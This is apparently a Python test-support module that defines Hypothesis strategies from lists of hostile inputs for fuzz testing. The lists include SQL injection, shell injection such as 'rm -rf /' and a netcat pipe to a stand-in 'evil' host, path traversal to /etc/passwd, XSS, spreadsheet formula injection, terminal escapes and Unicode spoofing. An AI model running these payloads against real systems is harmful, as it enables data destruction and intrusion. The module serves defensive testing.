"""Text as an attacker, a careless person or another machine's file would have it, by what it is aimed at."""

from __future__ import annotations

from hypothesis import strategies as st

SQL = (
    "'; DROP TABLE runs; --", "\" OR 1=1 --", "x'); DELETE FROM backups WHERE ('1'='1", "%s %(name)s", "$1 :name ?",
    "a\\'b", "'' UNION SELECT 1", "E'\\x41'", "$$x$$", "x%", "_%",
)  # fmt: skip
SHELL = (
    "$(touch /tmp/owned)", "`id`", "a; rm -rf /", "a | nc evil 1", "a && b", "-rf", "--help", "-o ProxyCommand=x", "*",
    "~root", "${PATH}", "a\nb", ">/etc/passwd", "!!", "@file",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "/etc/passwd", "..", ".", "a/../../b", "C:\\windows", "\\\\host\\share", "a//b", "file:///etc/passwd",
    "%2e%2e%2f", "a/", ".hidden", "NUL", "x" * 255, "a\0b",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><b>", "[a](javascript:alert(1))",
    "![x](https://evil.example/x.png)", "# heading",
    "**bold** _it_ ~~no~~ `code`", ":red[danger] :material/home: $x^2$",
    "| a | b |\n| --- | --- |", "<!-- -->", "&lt;b&gt;", "{{7*7}}", "${7*7}",
    "https://evil.example", "www.evil.example",
    "a@evil.example", "--> <- -- ... (c)",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\")", "\t=1+1", "\r=1", " =1",
    "=cmd|' /C calc'!A0",
    "'=1", "；=1", "\ufeff=1", "\u200b=1",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;aGk=\x07", "\x9b31m", "\x07", "\b\b\b", "a\rb", "\x0e",
    "\x1bPq\x1b\\",
    "\x7f", "\x85", "\x00",
)  # fmt: skip
UNICODE = (
    "\u202egnp.exe", "\u2066x\u2069", "a\u0300" * 50, "ﷺ" * 20, "🏳️‍🌈", "ａｄｍｉｎ", "аdmin", "K", "İ", "ß",
    "\ufeffbom",
    "\ud800",
    "\udfff\ud800", "\U0010ffff", "\ue000", "\u2028line", "\u2029", "\u00a0", "\u3164", "\U000e0041",
)  # fmt: skip
LONG = ("x" * 2001, "ü" * 10_000, "x" * 1_000_000, "\n" * 100_000, " " * 50_000, "=" * 1_000_000)
BLANK = ("", " ", "\t\n", "None", "null", "true", "0", "-0", "NaN", "1e309", "[]", "{}")
KNOWN = (*SQL, *SHELL, *PATHS, *MARKUP, *FORMULAS, *TERMINAL, *UNICODE, *LONG, *BLANK)

ANY = st.text(st.characters(exclude_categories=()), max_size=80)
"""Any text at all: control characters, lone surrogates and private ones too."""
SHORT = st.one_of(st.sampled_from([text for text in KNOWN if len(text) <= 300]), ANY)
HOSTILE = st.one_of(
    st.sampled_from(KNOWN), ANY, st.builds(str.__add__, st.sampled_from([*SQL, *MARKUP, *TERMINAL]), ANY)
)
